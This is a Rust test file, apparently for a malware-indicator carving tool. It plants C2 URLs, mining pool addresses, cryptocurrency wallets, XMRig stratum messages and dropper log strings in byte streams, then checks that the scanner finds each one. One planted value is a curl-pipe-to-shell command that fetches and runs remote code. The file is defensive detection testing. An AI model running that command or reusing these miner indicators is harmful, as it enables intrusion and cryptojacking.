#![allow(clippy::unwrap_used, clippy::indexing_slicing)]
//! What is planted is found: at any alignment, across any chunk's edge, in either encoding, at
//! the exact offset; and no bytes make the scanner fail.

use super::{Carved, Found, Stream};
use proptest::prelude::*;

const MONERO: &str = "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A";

/// Text to plant, and the indicator that must come of it: kind, value, where in the text.
const PLANTED: &[(&str, &str, &str, usize)] = &[
    ("http://102.208.3.5/cc/index.html", "url", "http://102.208.3.5/cc/index.html", 0),
    ("stratum+tcp://ap.luckpool.net:3956", "pool", "ap.luckpool.net:3956", 14),
    ("eu.luckpool.net", "domain", "eu.luckpool.net", 0),
    ("198.51.100.7:14444", "address", "198.51.100.7:14444", 0),
    ("[2001:db8::7]:3333", "address", "[2001:db8::7]:3333", 0),
    ("Payload dropped to /usr/sbin/rsyslogd-worker", "drop", "/usr/sbin/rsyslogd-worker", 0),
    ("Payload dropped to: %s", "drop-format", "Payload dropped to: %s", 0),
    ("Payload started", "run", "Payload started", 0),
    ("1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa", "wallet", "1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa", 0),
    (MONERO, "wallet", MONERO, 0),
    (
        "bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq",
        "wallet",
        "bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq",
        0,
    ),
    (r#"{"id":1,"method":"mining.subscribe","params":[]}"#, "stratum", "mining.subscribe", 18),
    (
        r#"{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"x","pass":"x","agent":"XMRig/6.21"}}"#,
        "stratum",
        "login",
        24,
    ),
    ("--donate-level=1", "miner-option", "--donate-level=1", 0),
    ("curl -fsSL http://198.51.100.9/x | sh", "shell", "curl -fsSL http://198.51.100.9/x | sh", 0),
    ("dial 203.0.113.99 3956", "address", "203.0.113.99:3956", 5),
];

fn carve(bytes: &[u8], chunk: usize, pieces: usize) -> Vec<Carved> {
    let mut found = Found::default();
    let mut stream = Stream::with_chunk(&mut found, 0x1000, chunk);
    for piece in bytes.chunks(pieces.max(1)) {
        stream.feed(piece);
    }
    drop(stream);
    found.finish().0
}

fn brief(carved: &[Carved]) -> Vec<String> {
    let text = |bytes: &[u8]| String::from_utf8_lossy(bytes).into_owned();
    carved
        .iter()
        .map(|c| {
            format!(
                "{} {} {:?} at {:#x} {} x{} in {:?} {} {:?} {:?}",
                c.kind,
                text(&c.value),
                c.detail,
                c.offset,
                c.way,
                c.count,
                text(&c.context),
                c.why,
                c.host,
                c.port
            )
        })
        .collect()
}

fn plant(text: &str, wide: bool) -> Vec<u8> {
    if wide { text.bytes().flat_map(|b| [b, 0]).collect() } else { text.as_bytes().to_vec() }
}

fn expect(carved: &[Carved], kind: &str, value: &str, offset: u64, wide: bool) {
    let encoding = if wide { "utf-16le" } else { "ascii" };
    let there = carved.iter().any(|c| {
        c.kind == kind
            && c.value == value.as_bytes()
            && c.offset == offset
            && c.way.to_string() == encoding
            && c.count == 1
    });
    assert!(there, "{kind} {value} at {offset:#x} in {encoding}, but found {:#?}", brief(carved));
}

#[test]
fn planted_indicators_are_found_at_every_alignment() {
    for wide in [false, true] {
        for before in 0..130 {
            for (text, kind, value, at) in PLANTED {
                let mut bytes = vec![0; before];
                bytes.extend(plant(text, wide));
                bytes.extend([0; 7]);
                let offset = 0x1000 + before as u64 + (*at as u64) * if wide { 2 } else { 1 };
                expect(&carve(&bytes, 1 << 20, usize::MAX), kind, value, offset, wide);
            }
        }
    }
}

fn sea(kind: u8, length: usize) -> Vec<u8> {
    let mut state = 0x2545_f491_4f6c_dd1d_u64;
    let words = b"the quick brown fox jumps over the lazy dog; 12:34:56 client.cc:120 1.2.3 ";
    (0..length)
        .map(|i| {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            match kind {
                0 => 0,
                1 => (state >> 32) as u8,
                2 => words[i % words.len()],
                _ => {
                    if state & 7 < 5 {
                        0
                    } else {
                        (state >> 40) as u8 & 0x7f
                    }
                }
            }
        })
        .collect()
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(48))]

    #[test]
    fn chunks_and_pieces_do_not_matter(
        kind in 0_u8..4, chunk in 64_usize..40_000, pieces in 1_usize..70_000, places in prop::collection::vec(0_usize..60_000, PLANTED.len()), wide: bool,
    ) {
        let mut bytes = sea(kind, 64 * 1024);
        let mut taken: Vec<(usize, usize)> = Vec::new();
        let mut sown = Vec::new();
        for ((text, kind, value, at), place) in PLANTED.iter().zip(places) {
            let mut planted = vec![0, 0];
            planted.extend(plant(text, wide));
            planted.extend([0, 0]);
            // What stands near may matter to what counts, so plants keep apart.
            if taken.iter().any(|(from, to)| place < to + 1200 && *from < place + planted.len() + 1200) {
                continue;
            }
            taken.push((place, place + planted.len()));
            bytes[place..place + planted.len()].copy_from_slice(&planted);
            sown.push((kind, value, 0x1000 + place as u64 + 2 + (*at as u64) * if wide { 2 } else { 1 }));
        }
        let whole = carve(&bytes, 1 << 20, usize::MAX);
        for (kind, value, offset) in sown {
            expect(&whole, kind, value, offset, wide);
        }
        prop_assert_eq!(brief(&whole), brief(&carve(&bytes, chunk, pieces)));
    }

    #[test]
    fn no_bytes_make_it_fail(bytes in prop::collection::vec(any::<u8>(), 0..4096), chunk in 64_usize..4096) {
        prop_assert_eq!(brief(&carve(&bytes, 1 << 20, usize::MAX)), brief(&carve(&bytes, chunk, 1000)));
    }

    #[test]
    fn no_text_makes_it_fail(text in r#"([a-z]{0,6}|[0-9.:]{1,9}|://|\[|\]|\.|"method"|mining\.notify|payload | dropped | to |/tmp/x|--algo |stratum\+|curl |\| sh|"url":|luckpool\.net|%s|\n|"pools"){0,60}"#) {
        prop_assert_eq!(brief(&carve(text.as_bytes(), 1 << 20, usize::MAX)), brief(&carve(text.as_bytes(), 64, 100)));
    }
}

#[test]
fn occurrences_are_folded_and_counted() {
    let bytes = b"http://198.51.100.1/a\0\0http://198.51.100.1/a\0http://198.51.100.1/b\0";
    let carved = carve(bytes, 1 << 20, usize::MAX);
    let counts: Vec<_> = carved.iter().map(|c| (c.offset - 0x1000, c.count)).collect();
    assert_eq!(counts, [(0, 2), (45, 1)]);
}

#[test]
fn a_pretty_printed_configuration_gives_its_pool_wallet_and_second_address() {
    let text = "{\n  \"pools\": [\n    {\n      \"url\": \"ap.luckpool.net:3956\",\n      \"user\": \"someone.rig\",\n      \"pass\": \"x\"\n    }\n  ],\n  \"algo\": \"verushash\",\n  \"backup\": \"203.0.113.99\"\n}\n";
    let carved = carve(text.as_bytes(), 1 << 20, usize::MAX);
    let has = |kind: &str, value: &str| {
        carved.iter().any(|c| c.kind == kind && c.value == value.as_bytes())
    };
    assert!(
        has("miner-config", "url=ap.luckpool.net:3956 user=someone.rig pass=x algo=verushash"),
        "{carved:#?}"
    );
    assert!(has("pool", "ap.luckpool.net:3956"));
    assert!(has("address", "203.0.113.99"));
}

#[test]
fn a_flood_of_one_kind_does_not_push_out_another() {
    use std::fmt::Write;
    let mut bytes = String::new();
    for number in 0..12_000 {
        write!(bytes, "http://198.51.100.7/{number}\0").unwrap();
    }
    bytes.push_str("Payload dropped to: /usr/sbin/w1\0");
    let mut found = crate::carve::Found::default();
    crate::carve::carve(bytes.as_bytes(), 0, &mut found).unwrap();
    let (all, cut) = found.finish();
    assert!(all.iter().any(|one| one.kind == "drop" && one.value == b"/usr/sbin/w1"));
    assert_eq!(cut.indicators, 2_000);
}
